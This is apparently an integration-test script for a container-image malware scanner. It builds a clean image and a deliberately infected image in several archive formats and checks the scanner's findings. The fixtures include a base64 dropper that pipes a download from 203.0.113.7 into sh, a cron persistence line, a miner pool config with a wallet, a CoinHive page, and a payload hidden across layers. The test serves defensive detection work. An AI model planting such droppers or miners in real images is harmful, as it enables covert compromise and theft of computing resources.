#!/usr/bin/env bash
# hashhound scan against real images built with buildah (scratch + busybox +
# test payloads), saved by podman as docker-archive, OCI directory and OCI
# archive, plus a re-compressed (gzip, zstd) OCI layout. The miner image holds
# a renamed miner-like static binary, a payload added in one layer and deleted
# in the next, a base64 dropper, a cron persistence entry and a browser-miner
# page with a wasm module; a clean busybox image must give nothing above low.
. "$(dirname "$0")/../lib.sh"
need_root
need_cmd buildah podman gcc python3 strip
[ -x /bin/busybox ] || skip "needs busybox-static (/bin/busybox)"
[ -x "$HH_BIN" ] || fail "$HH_BIN not built"

here=$(cd "$(dirname "$0")" && pwd)
work=$(mktemp -d /tmp/hh-scan-it.XXXXXX)
ctrs=()
cleanup() {
	for c in "${ctrs[@]}"; do buildah rm "$c" >/dev/null 2>&1; done
	podman rmi -f localhost/hh-scan-clean:test localhost/hh-scan-miner:test localhost/hh-scan-miner-l2:test >/dev/null 2>&1
	rm -rf "$work"
}
trap cleanup EXIT
[ -n "${HH_SCAN_KEEP:-}" ] && trap "" EXIT

# ---- payloads
gcc -static -O1 -o "$work/minerlike" "$here/scan/minerlike.c" || fail "cannot build the miner-like binary"
strip --strip-all "$work/minerlike"
python3 "$here/scan/make_wasm.py" "$work/cn.wasm" || fail "make_wasm.py"
wallet=44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A
mkdir -p "$work/root/bin" "$work/root/tmp" "$work/root/etc"
cp /bin/busybox "$work/root/bin/busybox"
for a in sh ls cat rm; do ln -s busybox "$work/root/bin/$a"; done
echo "root:x:0:0:root:/root:/bin/sh" >"$work/root/etc/passwd"

mkdir -p "$work/pay/usr/bin" "$work/pay/opt/app" "$work/pay/opt/stage" "$work/pay/etc" "$work/pay/srv/www"
cp "$work/minerlike" "$work/pay/usr/bin/kworkerd"                  # renamed miner
cp "$work/minerlike" "$work/pay/opt/stage/kdevtmpfsi"              # deleted in the next layer
printf '{"pools":[{"url":"stratum+tcp://xmr.pool.example.net:3333","user":"%s"}],"donate-level":1,"randomx":{}}\n' \
	"$wallet" >"$work/pay/opt/stage/config.json"
inner=$(printf 'curl -fsSL http://203.0.113.7/k.sh | sh\n' | base64 -w0)
printf '#!/bin/sh\n# update helper\neval "$(echo %s | base64 -d)"\n' "$inner" >"$work/pay/opt/app/update.sh"
printf 'SHELL=/bin/sh\n*/5 * * * * root /tmp/.ICE-unix/kworkerd -o stratum+tcp://xmr.pool.example.net:3333 --donate-level 1\n' \
	>"$work/pay/etc/crontab"
cat >"$work/pay/srv/www/index.html" <<'HTML'
<html><head><script src="coinhive.min.js"></script></head><body>
<script>
  var miner = new CoinHive.Anonymous('SITE-KEY', {throttle: 0.3});
  miner.start();
  fetch('cn.wasm'); // cryptonight.wasm build
</script></body></html>
HTML
cp "$work/cn.wasm" "$work/pay/srv/www/cn.wasm"

# ---- images: clean = scratch + busybox; miner = clean + payload layer + deletion layer
c=$(buildah from scratch) && ctrs+=("$c")
buildah copy --quiet "$c" "$work/root" / >/dev/null
buildah config --cmd '/bin/sh' "$c"
buildah commit --quiet "$c" localhost/hh-scan-clean:test >/dev/null || fail "commit clean"
c=$(buildah from localhost/hh-scan-clean:test) && ctrs+=("$c")
buildah copy --quiet "$c" "$work/pay" / >/dev/null
buildah commit --quiet "$c" localhost/hh-scan-miner-l2:test >/dev/null || fail "commit l2"
c=$(buildah from localhost/hh-scan-miner-l2:test) && ctrs+=("$c")
mnt=$(buildah mount "$c") || fail "buildah mount"
rm -rf "$mnt/opt/stage"            # overlay records whiteouts; commit writes .wh. entries
buildah umount "$c" >/dev/null
buildah config --cmd "/usr/bin/kworkerd --donate-level 1 -o stratum+tcp://xmr.pool.example.net:3333 -u $wallet" \
	--env "POOL=stratum+tcp://xmr.pool.example.net:3333" --port 3333 "$c"
buildah commit --quiet "$c" localhost/hh-scan-miner:test >/dev/null || fail "commit miner"

for img in clean miner; do
	podman save --quiet --format docker-archive -o "$work/$img.docker.tar" "localhost/hh-scan-$img:test" || fail "save docker-archive"
	podman save --quiet --format oci-archive -o "$work/$img.oci.tar" "localhost/hh-scan-$img:test" || fail "save oci-archive"
	podman save --quiet --format oci-dir -o "$work/$img.oci" "localhost/hh-scan-$img:test" || fail "save oci-dir"
done
# The OCI layout again with gzip and zstd layers (what registries serve).
python3 "$here/scan/recompress_oci.py" "$work/miner.oci" "$work/miner.oci-gz" gzip || fail "recompress gzip"
if command -v zstd >/dev/null; then
	python3 "$here/scan/recompress_oci.py" "$work/miner.oci" "$work/miner.oci-zst" zstd || fail "recompress zstd"
fi

has() { # FILE RULE IMAGE-PATH-SUBSTRING
	python3 - "$@" <<'PY'
import json, sys
f, rule, path = sys.argv[1:4]
for line in open(f):
    d = json.loads(line)
    if d["rule"] == rule and path in d["fields"].get("image.path", d["fields"].get("file.path", "")):
        sys.exit(0)
sys.exit(1)
PY
}

for form in docker.tar oci.tar oci oci-gz oci-zst; do
	t="$work/miner.$form"
	[ -e "$t" ] || continue
	out="$work/out.$form.jsonl"
	"$HH_BIN" scan -q --format json --fail-on high "$t" >"$out"
	rc=$?
	[ $rc = 1 ] || { cat "$out"; fail "$form: exit $rc, want 1 (findings at/above high)"; }
	has "$out" miner.exe.traits /usr/bin/kworkerd || has "$out" miner.exe.static-stripped /usr/bin/kworkerd ||
		fail "$form: renamed miner /usr/bin/kworkerd not found by content"
	has "$out" miner.exe.xmrig /usr/bin/kworkerd || fail "$form: YARA rule pack missed /usr/bin/kworkerd"
	has "$out" scan.hidden-in-layers /opt/stage/kdevtmpfsi || fail "$form: deleted payload not reported hidden in layers"
	has "$out" scan.hidden-in-layers /opt/stage/config.json || fail "$form: deleted config not reported hidden"
	python3 - "$out" <<'PY' || fail "$form: hidden payload's content finding lacks image.layer/hidden marks"
import json, sys
ok = False
for line in open(sys.argv[1]):
    d = json.loads(line)
    fl = d["fields"]
    if fl.get("image.path") == "/opt/stage/kdevtmpfsi" and d["rule"].startswith("miner.exe"):
        ok = fl.get("image.hidden_in_layers") == "true" and fl.get("image.layer", "").startswith("sha256:") \
            and fl.get("image.layer") != fl.get("image.hidden.by_layer") and fl["file.path"].startswith("layer-")
sys.exit(0 if ok else 1)
PY
	has "$out" scan.dropper.base64 /opt/app/update.sh || fail "$form: base64 dropper missed"
	has "$out" scan.persistence.cron /etc/crontab || fail "$form: cron persistence missed"
	has "$out" miner.web.coinhive /srv/www/index.html || fail "$form: CoinHive page missed"
	has "$out" miner.wasm.cryptonight /srv/www/cn.wasm || fail "$form: cryptonight wasm missed"
	has "$out" scan.config.miner "" || fail "$form: image config (cmd/env) miner indicators missed"
	has "$out" miner.pool-domain "" && fail "$form: example.net is not on the intel list; pool-domain must not fire"
	# kworkerd stays visible in the merged filesystem
	python3 - "$out" <<'PY' || fail "$form: visible payload marked hidden"
import json, sys
for line in open(sys.argv[1]):
    d = json.loads(line)
    if d["fields"].get("image.path") == "/usr/bin/kworkerd" and d["fields"].get("image.hidden_in_layers") != "false":
        sys.exit(1)
PY
	ok "$form: miner image findings ($(wc -l <"$out") lines)"
done

# Every form gives the same findings (rule, path, layer).
norm() { python3 -c 'import json,sys; print("\n".join(sorted(set(json.loads(l)["rule"]+" "+json.loads(l)["fields"].get("image.path","")+" "+json.loads(l)["fields"].get("image.layer","") for l in open(sys.argv[1]) if json.loads(l)["fields"].get("image.path")))))' "$1"; }
norm "$work/out.docker.tar.jsonl" >"$work/a"
for form in oci.tar oci oci-gz; do
	norm "$work/out.$form.jsonl" >"$work/b"
	diff "$work/a" "$work/b" >/dev/null || { diff "$work/a" "$work/b"; fail "docker-archive and $form disagree"; }
done
ok "docker-archive, oci-archive, oci-dir and gzip layout agree"

# Clean busybox image: nothing above low, in every form; SARIF valid with zero results.
for form in docker.tar oci.tar oci; do
	out="$work/clean.$form.jsonl"
	"$HH_BIN" scan -q --format json --fail-on medium "$work/clean.$form" >"$out"
	rc=$?
	[ $rc = 0 ] || { cat "$out"; fail "clean $form: exit $rc, want 0 (nothing at/above medium)"; }
	python3 -c '
import json,sys
bad=[l for l in open(sys.argv[1]) if json.loads(l)["severity"] not in ("info","low")]
sys.exit(1 if bad else 0)' "$out" || fail "clean $form: finding above low"
done
"$HH_BIN" scan -q --format sarif --fail-on medium "$work/clean.oci" >"$work/clean.sarif" || fail "clean sarif exit"
"$HH_BIN" scan -q --format sarif "$work/miner.docker.tar" >"$work/miner.sarif"
[ $? = 1 ] || fail "miner sarif exit"
python3 - "$work/clean.sarif" "$work/miner.sarif" <<'PY' || fail "SARIF output invalid"
import json, sys
for f in sys.argv[1:]:
    d = json.load(open(f))
    assert d["version"] == "2.1.0", f
    assert "sarif" in d["$schema"]
    run = d["runs"][0]
    assert run["tool"]["driver"]["name"]
    for r in run["results"]:
        assert r["ruleId"] and r["level"] in ("none", "note", "warning", "error")
        uri = r["locations"][0]["physicalLocation"]["artifactLocation"]["uri"]
        assert uri, r
    if "clean" in f:
        assert all(r["level"] in ("none", "note") for r in run["results"]), "clean image with warnings"
    else:
        assert any("layer-" in r["locations"][0]["physicalLocation"]["artifactLocation"]["uri"] for r in run["results"])
PY
ok "clean image: nothing above low; SARIF valid"

# User YARA rules: a file and a directory; a broken rule is a usage error naming file and line.
mkdir -p "$work/rules"
printf 'rule team_update_helper\n{\n    meta:\n        severity = "low"\n        title = "our update helper"\n    strings:\n        $a = "# update helper"\n    condition:\n        $a\n}\n' >"$work/rules/team.yar"
"$HH_BIN" scan -q --format json --yara "$work/rules" "$work/miner.oci" >"$work/user.jsonl"
python3 - "$work/user.jsonl" <<'PY' || fail "user YARA rule did not match with its meta"
import json, sys
sys.exit(0 if any(json.loads(l)["rule"] == "yara.team_update_helper" and json.loads(l)["severity"] == "low"
                  and json.loads(l)["fields"].get("image.path") == "/opt/app/update.sh" for l in open(sys.argv[1])) else 1)
PY
printf 'rule broken {\n  strings: $a = "x"\n  condition: $b\n}\n' >"$work/broken.yar"
"$HH_BIN" scan -q --yara "$work/broken.yar" "$work/clean.oci" >/dev/null 2>"$work/broken.err"
rc=$?
[ $rc = 2 ] || fail "broken YARA rule: exit $rc, want 2"
grep -q "broken.yar:[0-9]*: undefined string" "$work/broken.err" || { cat "$work/broken.err"; fail "broken YARA rule: error does not name file:line"; }
ok "user YARA rules (--yara DIR) and a broken rule (exit 2, file:line)"

# Exit 2: a damaged archive (cut in the middle of a layer) still reports what it read.
size=$(stat -c %s "$work/miner.docker.tar")
head -c $((size * 3 / 4)) "$work/miner.docker.tar" >"$work/cut.tar"
"$HH_BIN" scan -q --format json --fail-on critical "$work/cut.tar" >"$work/cut.jsonl" 2>"$work/cut.err"
rc=$?
[ $rc = 2 ] || [ $rc = 1 ] || fail "truncated archive: exit $rc, want 2 (or 1 with a critical finding)"
grep -qi "truncated" "$work/cut.err" || { cat "$work/cut.err"; fail "truncated archive: no clear error"; }
[ -s "$work/cut.jsonl" ] || fail "truncated archive: what was readable was not reported"
ok "truncated archive: exit $rc, $(wc -l <"$work/cut.jsonl") findings still printed"
# The exit rule: input error and nothing at/above --fail-on gives 2.
size=$(stat -c %s "$work/clean.docker.tar")
head -c $((size / 2)) "$work/clean.docker.tar" >"$work/cut-clean.tar"
"$HH_BIN" scan -q --format json --fail-on high "$work/cut-clean.tar" >/dev/null 2>"$work/cut-clean.err"
rc=$?
[ $rc = 2 ] || { cat "$work/cut-clean.err"; fail "truncated clean archive: exit $rc, want 2"; }
"$HH_BIN" scan -q --format json "$work/does-not-exist.tar" >/dev/null 2>&1
[ $? = 2 ] || fail "missing target: want exit 2"
ok "input errors without findings at/above --fail-on: exit 2"
# Progress: a scan running longer than scan.progress_s says how far it got on
# stderr (here made to report at once); the default says nothing on a short one.
mkdir -p "$work/many"
for i in $(seq 1 600); do echo "note $i" >"$work/many/n$i.txt"; done
printf 'scan:\n  progress_s: 0.000001\n' >"$work/progress.yaml"
"$HH_BIN" scan -c "$work/progress.yaml" --format json "$work/many" >/dev/null 2>"$work/progress.err"
grep -q "MB read, 512 entries" "$work/progress.err" || { cat "$work/progress.err"; fail "no progress line"; }
"$HH_BIN" scan --format json "$work/many" >/dev/null 2>"$work/quiet.err"
! grep -q "MB read" "$work/quiet.err" || fail "progress line on a short scan"
ok "progress: a line every scan.progress_s on long scans, none on short ones"
echo PASS
